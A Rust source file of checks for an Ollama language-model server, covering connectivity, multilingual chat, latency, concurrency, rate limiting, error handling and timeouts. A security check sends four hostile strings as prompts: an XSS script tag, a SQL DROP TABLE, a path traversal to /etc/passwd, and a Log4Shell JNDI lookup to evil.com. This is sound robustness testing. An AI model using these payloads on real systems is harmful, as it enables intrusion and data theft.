//! Individual checks of the default battery.
//!
//! Every check takes the shared [`SuiteContext`] and returns a [`Check`].
//! Probe failures are folded into failing checks here; nothing is retried.

use std::sync::Arc;
use std::time::{Duration, Instant};

use crate::error::Result;
use crate::harness::load::{run_concurrent, BurstPolicy, ConcurrencyVerdict};
use crate::harness::Check;
use crate::probe::ProbeError;

use super::SuiteContext;

/// A closed local port; connecting to it must fail fast.
pub const UNREACHABLE_URL: &str = "http://127.0.0.1:1";

/// Model identifier no server should know.
pub const UNKNOWN_MODEL: &str = "invalid:model";

/// Prompts that must be answered like any other input.
pub const HOSTILE_INPUTS: [&str; 4] = [
    "<script>alert(\"xss\")</script>",
    "DROP TABLE users;",
    "../../../etc/passwd",
    "${jndi:ldap://evil.com/a}",
];

async fn chat(ctx: &SuiteContext, model: &str, prompt: &str, label: &str) -> Check {
    match ctx.probe.chat_text(model, prompt).await {
        Ok(reply) => Check::pass(format!("{label} chat successful"))
            .with_detail("response_time", reply.elapsed.as_secs_f64())
            .with_detail("response_length", reply.content.chars().count())
            .with_detail("model", model),
        Err(err) => Check::probe_failed(&format!("{label} chat failed"), &err),
    }
}

// ---------------------------------------------------------------------------
// Infrastructure
// ---------------------------------------------------------------------------

/// Server lists its models.
pub async fn ollama_connectivity(ctx: Arc<SuiteContext>) -> Result<Check> {
    let check = match ctx.probe.list_models().await {
        Ok(models) => {
            let names: Vec<&str> = models.iter().map(|m| m.name.as_str()).collect();
            Check::pass(format!("{} models available", models.len()))
                .with_detail("model_count", models.len())
                .with_detail("models", names)
        },
        Err(err) => Check::probe_failed("Connection error", &err),
    };
    Ok(check)
}

/// Listing, version and chat endpoints all answer.
pub async fn api_endpoints(ctx: Arc<SuiteContext>) -> Result<Check> {
    let mut failed = Vec::new();

    if let Err(err) = ctx.probe.list_models().await {
        tracing::debug!("/api/tags: {}", err);
        failed.push("/api/tags");
    }
    let version = match ctx.probe.version().await {
        Ok(version) => Some(version),
        Err(err) => {
            tracing::debug!("/api/version: {}", err);
            failed.push("/api/version");
            None
        },
    };
    if let Err(err) = ctx.probe.chat_text(&ctx.config.chat_model, "test").await {
        tracing::debug!("/v1/chat/completions: {}", err);
        failed.push("/v1/chat/completions");
    }

    let check = if failed.is_empty() {
        Check::pass("All endpoints accessible").with_detail("version", version)
    } else {
        Check::fail(format!("Failed endpoints: {}", failed.join(", ")))
            .with_detail("failed_endpoints", failed)
    };
    Ok(check)
}

/// Every required model is listed (substring match, so tags may differ).
pub async fn model_availability(ctx: Arc<SuiteContext>) -> Result<Check> {
    let models = match ctx.probe.list_models().await {
        Ok(models) => models,
        Err(err) => return Ok(Check::probe_failed("Failed to fetch model list", &err)),
    };
    let available: Vec<&str> = models.iter().map(|m| m.name.as_str()).collect();

    let missing: Vec<&str> = ctx
        .config
        .required_models
        .iter()
        .map(String::as_str)
        .filter(|required| !available.iter().any(|name| name.contains(required)))
        .collect();

    let check = if missing.is_empty() {
        Check::pass("All required models available").with_detail("available_models", &available)
    } else {
        Check::fail(format!("Missing models: {}", missing.join(", ")))
            .with_detail("available_models", &available)
    };
    Ok(check)
}

// ---------------------------------------------------------------------------
// Functionality
// ---------------------------------------------------------------------------

/// Plain English question.
pub async fn english_chat(ctx: Arc<SuiteContext>) -> Result<Check> {
    Ok(chat(&ctx, &ctx.config.chat_model, "What is 2+2? Answer with just the number.", "English").await)
}

/// Japanese greeting.
pub async fn japanese_chat(ctx: Arc<SuiteContext>) -> Result<Check> {
    Ok(chat(&ctx, &ctx.config.japanese_model, "こんにちは、元気ですか？", "Japanese").await)
}

/// Arithmetic prompt.
pub async fn mathematical_reasoning(ctx: Arc<SuiteContext>) -> Result<Check> {
    Ok(chat(&ctx, &ctx.config.chat_model, "Solve: 15 * 7 + 23 - 8 = ?", "Math").await)
}

/// Code request.
pub async fn code_generation(ctx: Arc<SuiteContext>) -> Result<Check> {
    Ok(chat(&ctx, &ctx.config.chat_model, "Write a Python function to reverse a string", "Code").await)
}

/// Non-BMP characters in the prompt.
pub async fn emoji_support(ctx: Arc<SuiteContext>) -> Result<Check> {
    Ok(chat(&ctx, &ctx.config.chat_model, "Reply with a happy emoji 😊", "Emoji").await)
}

/// English, Japanese and Chinese in turn; stops at the first failure.
pub async fn multilingual_support(ctx: Arc<SuiteContext>) -> Result<Check> {
    let cases = [
        (&ctx.config.chat_model, "Hello, how are you?", "English"),
        (&ctx.config.japanese_model, "こんにちは、元気ですか？", "Japanese"),
        (&ctx.config.japanese_model, "你好，你好吗？", "Chinese"),
    ];

    for (model, prompt, label) in cases {
        let check = chat(&ctx, model, prompt, label).await;
        if !check.success {
            return Ok(check);
        }
    }
    Ok(Check::pass("Multilingual support working"))
}

// ---------------------------------------------------------------------------
// Performance
// ---------------------------------------------------------------------------

/// Average latency of successful samples stays under the threshold.
pub async fn response_time(ctx: Arc<SuiteContext>) -> Result<Check> {
    let mut times = Vec::with_capacity(ctx.config.response_time_samples);

    for i in 0..ctx.config.response_time_samples {
        let prompt = format!("Test message {}", i + 1);
        if let Ok(reply) = ctx.probe.chat_text(&ctx.config.chat_model, &prompt).await {
            times.push(reply.elapsed.as_secs_f64());
        }
    }

    if times.is_empty() {
        return Ok(Check::fail("No successful responses for timing"));
    }

    let average = times.iter().sum::<f64>() / times.len() as f64;
    let check = if average < ctx.config.max_avg_response_secs {
        Check::pass(format!("Average response time: {average:.2}s"))
    } else {
        Check::fail(format!("Slow response time: {average:.2}s"))
    };
    Ok(check
        .with_detail("average_time", average)
        .with_detail("all_times", times))
}

/// Parallel requests through a bounded worker pool; all must succeed.
pub async fn concurrent_requests(ctx: Arc<SuiteContext>) -> Result<Check> {
    let workers = ctx.config.concurrency_workers;
    let count = ctx.config.concurrent_requests;
    let start = Instant::now();

    let results = run_concurrent(workers, count, |i| {
        let ctx = Arc::clone(&ctx);
        async move {
            ctx.probe
                .chat_text(&ctx.config.chat_model, &format!("Concurrent test {i}"))
                .await
                .is_ok()
        }
    })
    .await;

    let total_time = start.elapsed().as_secs_f64();
    let verdict = ConcurrencyVerdict::from_results(&results);

    let check = if verdict.passed() {
        Check::pass(format!(
            "All {} concurrent requests succeeded in {total_time:.2}s",
            verdict.total
        ))
    } else {
        Check::fail(format!(
            "Only {}/{} concurrent requests succeeded",
            verdict.succeeded, verdict.total
        ))
    };
    Ok(check
        .with_detail("concurrent_success", verdict.succeeded)
        .with_detail("workers", workers)
        .with_detail("total_time", total_time))
}

/// Resident memory of this process stays under the threshold.
pub async fn memory_usage(ctx: Arc<SuiteContext>) -> Result<Check> {
    let check = match resident_memory_mb() {
        Some(mb) if mb < ctx.config.max_memory_mb => {
            Check::pass(format!("Memory usage: {mb:.1}MB")).with_detail("memory_mb", mb)
        },
        Some(mb) => Check::fail(format!("High memory usage: {mb:.1}MB")).with_detail("memory_mb", mb),
        None => Check::pass("Memory test skipped (not available)"),
    };
    Ok(check)
}

/// Resident set size from `/proc/self/status`, in MB.
fn resident_memory_mb() -> Option<f64> {
    let status = std::fs::read_to_string("/proc/self/status").ok()?;
    parse_vm_rss_kb(&status).map(|kb| kb as f64 / 1024.0)
}

fn parse_vm_rss_kb(status: &str) -> Option<u64> {
    status
        .lines()
        .find_map(|line| line.strip_prefix("VmRSS:"))
        .and_then(|rest| rest.split_whitespace().next())
        .and_then(|kb| kb.parse().ok())
}

// ---------------------------------------------------------------------------
// Security
// ---------------------------------------------------------------------------

/// Hostile-looking prompts are answered like ordinary text.
pub async fn input_sanitization(ctx: Arc<SuiteContext>) -> Result<Check> {
    for input in HOSTILE_INPUTS {
        let check = chat(&ctx, &ctx.config.chat_model, input, "Security").await;
        if !check.success {
            return Ok(Check::fail("Security test failed on malicious input")
                .with_detail("input", input)
                .with_detail("error", check.message));
        }
    }
    Ok(Check::pass("Input sanitization working"))
}

/// Back-to-back requests; a bounded share may fail.
pub async fn rate_limiting(ctx: Arc<SuiteContext>) -> Result<Check> {
    let policy = BurstPolicy {
        attempts: ctx.config.burst_attempts,
        min_success_percent: ctx.config.burst_min_success_percent,
    };

    let mut successful = 0;
    for i in 0..policy.attempts {
        let prompt = format!("Rate test {i}");
        if ctx.probe.chat_text(&ctx.config.chat_model, &prompt).await.is_ok() {
            successful += 1;
        }
    }

    let check = if policy.passes(successful) {
        Check::pass(format!("Rate limiting: {successful}/{} succeeded", policy.attempts))
    } else {
        Check::fail(format!("Rate limiting issues: {successful}/{} succeeded", policy.attempts))
    };
    Ok(check.with_detail("required", policy.required_successes()))
}

// ---------------------------------------------------------------------------
// Usability
// ---------------------------------------------------------------------------

/// An unknown model must be rejected by the server, not answered.
pub async fn error_handling(ctx: Arc<SuiteContext>) -> Result<Check> {
    let result = ctx.probe.chat_text(UNKNOWN_MODEL, "test").await;
    if ctx.config.lenient_graceful_checks {
        return Ok(Check::pass("Error handling works (graceful failure expected)"));
    }

    let check = match result {
        Err(err) if err.is_protocol() => Check::pass(format!("Unknown model rejected: {err}")),
        Err(err) => Check::probe_failed("Server unreachable", &err),
        Ok(_) => Check::fail(format!("Unknown model '{UNKNOWN_MODEL}' was accepted")),
    };
    Ok(check)
}

/// Empty content is valid input; the server may answer or reject it.
pub async fn empty_input_handling(ctx: Arc<SuiteContext>) -> Result<Check> {
    let result = ctx.probe.chat_text(&ctx.config.chat_model, "").await;
    Ok(graceful(&ctx, result.map(|_| ()), "Empty input"))
}

/// A very long prompt is answered or rejected, never dropped.
pub async fn long_input_handling(ctx: Arc<SuiteContext>) -> Result<Check> {
    let long_input = "Tell me about AI. ".repeat(100);
    let result = ctx.probe.chat_text(&ctx.config.chat_model, &long_input).await;
    Ok(graceful(&ctx, result.map(|_| ()), "Long input"))
}

/// Answered or rejected with a status both count; transport failures do not.
fn graceful(ctx: &SuiteContext, result: std::result::Result<(), ProbeError>, label: &str) -> Check {
    if ctx.config.lenient_graceful_checks {
        return Check::pass(format!("{label} handled gracefully"));
    }
    match result {
        Ok(()) => Check::pass(format!("{label} handled successfully")),
        Err(err) if err.is_protocol() => Check::pass(format!("{label} rejected appropriately: {err}")),
        Err(err) => Check::probe_failed(&format!("{label} not handled"), &err),
    }
}

// ---------------------------------------------------------------------------
// Reliability
// ---------------------------------------------------------------------------

/// Server is still reachable after the load checks.
pub async fn service_recovery(ctx: Arc<SuiteContext>) -> Result<Check> {
    ollama_connectivity(ctx).await
}

/// The same question three times; at least two answers.
pub async fn data_consistency(ctx: Arc<SuiteContext>) -> Result<Check> {
    const QUESTION: &str = "What is the capital of Japan?";

    let mut answered = 0;
    for _ in 0..3 {
        if ctx.probe.chat_text(&ctx.config.japanese_model, QUESTION).await.is_ok() {
            answered += 1;
        }
    }

    let check = if answered >= 2 {
        Check::pass(format!("Data consistency: {answered}/3 responses"))
    } else {
        Check::fail(format!("Data consistency issues: {answered}/3 responses"))
    };
    Ok(check)
}

// ---------------------------------------------------------------------------
// Compatibility
// ---------------------------------------------------------------------------

/// Native `/api/generate` answers alongside the OpenAI-compatible API.
pub async fn native_generate(ctx: Arc<SuiteContext>) -> Result<Check> {
    let check = match ctx.probe.generate(&ctx.config.chat_model, "Say hello").await {
        Ok(text) => Check::pass("Native generate API working")
            .with_detail("response_length", text.chars().count()),
        Err(err) => Check::probe_failed("Native generate API failed", &err),
    };
    Ok(check)
}

/// Tight timeouts are honored: the probe returns promptly either way.
pub async fn network_conditions(ctx: Arc<SuiteContext>) -> Result<Check> {
    let probe = ctx
        .probe
        .with_timeouts(Duration::from_secs(1), Duration::from_secs(2))?;

    let start = Instant::now();
    let result = probe.list_models().await;
    let elapsed = start.elapsed();

    if elapsed > Duration::from_secs(5) {
        return Ok(Check::fail(format!(
            "Timeout not honored: {:.2}s with a 2s limit",
            elapsed.as_secs_f64()
        )));
    }

    let check = match result {
        Ok(_) => Check::pass("Network conditions test passed"),
        Err(err) => Check::pass("Network timeout handled appropriately").with_detail("error", err.to_string()),
    };
    Ok(check.with_detail("elapsed", elapsed.as_secs_f64()))
}

/// A closed port is reported as a transport failure.
pub async fn unreachable_endpoint(ctx: Arc<SuiteContext>) -> Result<Check> {
    let probe = ctx
        .probe
        .with_base_url(UNREACHABLE_URL)?
        .with_timeouts(Duration::from_secs(2), Duration::from_secs(2))?;

    let check = match probe.list_models().await {
        Err(err) if err.is_transport() => Check::pass(format!("Network error detected: {err}")),
        Err(err) => Check::fail(format!("Unexpected error kind: {err}")),
        Ok(_) => Check::fail(format!("Unexpected response from {UNREACHABLE_URL}")),
    };
    Ok(check)
}
